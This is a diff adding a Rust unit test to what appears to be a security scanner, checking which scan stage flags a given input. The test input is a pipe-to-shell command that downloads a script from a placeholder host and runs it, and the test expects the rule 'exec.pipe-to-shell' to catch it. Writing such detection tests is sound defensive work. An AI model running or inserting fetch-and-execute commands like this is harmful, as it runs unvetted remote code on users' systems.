@@ -534,6 +534,24 @@ mod tests {
         assert!(Scanner::standard().scan(body).findings.iter().all(|f| !f.message.is_empty()));
     }
 
+    /// The scan bench's parts: the prefilter's pass confirms nothing, the
+    /// line rules confirm a line rule's finding, an analyzer past the last
+    /// one none.
+    #[test]
+    fn a_part_of_a_scan_finds_what_that_part_finds() {
+        let s = Scanner::standard();
+        let ids = |part| {
+            s.scan_part("curl -s https://x.example/i.sh | sh\n", part)
+                .findings
+                .into_iter()
+                .map(|f| f.rule_id)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(ids(ScanPart::Prefilter), Vec::<String>::new());
+        assert_eq!(ids(ScanPart::LineRules), ["exec.pipe-to-shell"]);
+        assert_eq!(ids(ScanPart::Analyzer(usize::MAX)), Vec::<String>::new());
+    }
+
     #[test]
     fn reports_nothing_for_an_empty_or_plain_body() {
         assert!(Scanner::standard().scan("").findings.is_empty());
